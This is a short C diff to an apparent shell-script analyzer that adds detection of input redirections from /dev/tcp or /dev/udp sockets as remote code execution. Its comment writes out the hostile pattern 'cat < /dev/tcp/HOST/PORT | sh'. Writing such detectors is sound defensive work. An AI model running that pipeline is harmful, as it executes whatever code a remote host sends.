@@ -657,6 +657,10 @@ void an_net_redir_inputs(an_state *s, int idx, const lh_cmd *cmd) {
         if (rd->op != LH_R_IN || !rd->target.s || !*rd->target.s) continue;
         const char *p = cmd->prog;
         if (!strcmp(p, "source") || !strcmp(p, ".") || !strcmp(p, "read")) continue;
+        /* cat < /dev/tcp/HOST/PORT | sh: what the socket sends is run */
+        if ((!strncmp(rd->target.s, "/dev/tcp/", 9) || !strncmp(rd->target.s, "/dev/udp/", 9)) &&
+            checkRemoteExec(s, idx, rd->target.s))
+            return;
         checkReadPath(s, idx, rd->target.s);
     }
 }
